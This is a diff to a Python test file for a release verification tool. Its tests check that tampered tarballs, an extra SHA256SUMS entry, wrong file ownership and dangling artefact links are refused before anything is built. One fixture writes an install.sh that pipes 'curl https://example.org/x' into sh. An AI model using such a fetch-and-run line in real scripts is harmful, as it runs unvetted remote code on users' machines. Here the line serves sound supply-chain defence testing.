@@ -3,6 +3,8 @@ the artefacts, their byte-for-byte rebuild from the published profile in another
 
 from __future__ import annotations
 
+import gzip
+import io
 import json
 import os
 import shutil
@@ -594,15 +596,73 @@ def test_rebuild_of_a_tarball_whose_binary_is_not_the_manifests_refused(released
 
 
 def test_rebuild_whose_binary_matches_but_not_its_tarball_refused(released: Release, tmp_path: Path) -> None:
-    """The published PGO tarball packed otherwise (another mtime), the same binary in it, every sum made to agree:
+    """The published PGO tarball packed otherwise (its tar compressed at another gzip level: the members as the
+    release writes them, another mtime is refused before the build), the same binary in it, every sum made to agree:
     the rebuilt binary matches, its tarball does not."""
     download = released.download(tmp_path / "download")
     manifest = released.manifest()
     pgo = manifest["artefacts"]["pgo"]
-    binary = _binary(download / pgo["file"], pgo["binary"].split("/")[0])
-    tarball = binary_tarball("hello-pgo", binary, pgo["binary"].split("/")[0], manifest["source_date_epoch"] + 60)
+    tarball = gzip.compress(gzip.decompress((download / pgo["file"]).read_bytes()), compresslevel=1, mtime=0)
     (download / pgo["file"]).write_bytes(tarball)
     _edit_manifest(download, artefacts__pgo__sha256=sha256_bytes(tarball))
     line = assert_refused(_rebuild(released, download), "match the published ones but a tarball does not")
     assert f"does not: mismatch {pgo['file']} rebuilt " in line  # (the line's runs of spaces are one)
     assert f", published {sha256_bytes(tarball)}" in line
+
+
+def test_verify_and_rebuild_refuse_an_extra_file_listed_in_sha256sums(released: Release, tmp_path: Path) -> None:
+    """A script beside the release's files, with its SHA256SUMS line: no file the release does not make passes."""
+    download = released.download(tmp_path / "download")
+    (download / "install.sh").write_text("#!/bin/sh\ncurl https://example.org/x | sh\n")
+    _resum(download)
+    words = f"SHA256SUMS lists install.sh, a file the release {TAG} does not make (it makes 7:"
+    assert_refused(run_nox("verify", released.env(), [TAG, "--artefacts", str(download)]), words)
+    assert_refused(_rebuild(released, download), words)
+    assert not (download.parent / "w").exists(), "refused before anything was built"
+
+
+def test_rebuild_of_a_tarball_whose_member_is_owned_by_a_user_refused(released: Release, tmp_path: Path) -> None:
+    """The PGO tarball repacked with the same binary owned by uid 1000, every sha256 made to agree: rebuild reads
+    it under verify's rules and stops before building."""
+    download = released.download(tmp_path / "download")
+    manifest = released.manifest()
+    pgo = manifest["artefacts"]["pgo"]
+    binary = _binary(download / pgo["file"], pgo["binary"].split("/")[0])
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
+        for name, data in ((pgo["binary"].split("/")[0], None), (pgo["binary"], binary)):
+            info = tarfile.TarInfo(name)
+            info.mode, info.mtime = 0o755, manifest["source_date_epoch"]
+            if data is None:
+                info.type = tarfile.DIRTYPE
+            else:
+                info.size, info.uid = len(data), 1000
+            tar.addfile(info, io.BytesIO(data) if data is not None else None)
+    tarball = gzip.compress(raw.getvalue(), mtime=0)
+    (download / pgo["file"]).write_bytes(tarball)
+    _edit_manifest(download, artefacts__pgo__sha256=sha256_bytes(tarball))
+    line = assert_refused(_rebuild(released, download), f"{pgo['file']} has '{pgo['binary']}' owned by uid 1000 gid 0")
+    assert "it is not a tarball the release writes" in line
+    assert not (download.parent / "w" / "rebuild" / TAG / "stripped").exists(), "refused before anything was built"
+
+
+def test_release_into_a_dangling_artefacts_link_refused_before_any_build(released: Release, tmp_path: Path) -> None:
+    link = tmp_path / "dist-link"
+    link.symlink_to(tmp_path / "gone")
+    env = released.env(PGO_OUT=str(tmp_path / "work"))
+    line = assert_refused(
+        run_nox("release", env, [TAG, "--artefacts", str(link)]),
+        f"the release folder {link} is a dangling symbolic link (to {tmp_path / 'gone'})",
+    )
+    assert "give --artefacts a folder that does not exist yet" in line
+    (tmp_path / "afile").write_text("not a directory\n")
+    assert_refused(
+        run_nox("release", env, [TAG, "--artefacts", str(tmp_path / "afile" / TAG)]),
+        f"the release folder {tmp_path / 'afile' / TAG} cannot be made: {tmp_path / 'afile'} is not a directory",
+    )
+    assert not (tmp_path / "work").exists(), "refused before anything was built"
+    assert not (tmp_path / "gone").exists()
+    assert_refused(
+        run_nox("verify", env, [TAG, "--artefacts", str(link)]),
+        f"no artefacts of {TAG} at {link}: it is a dangling symbolic link",
+    )
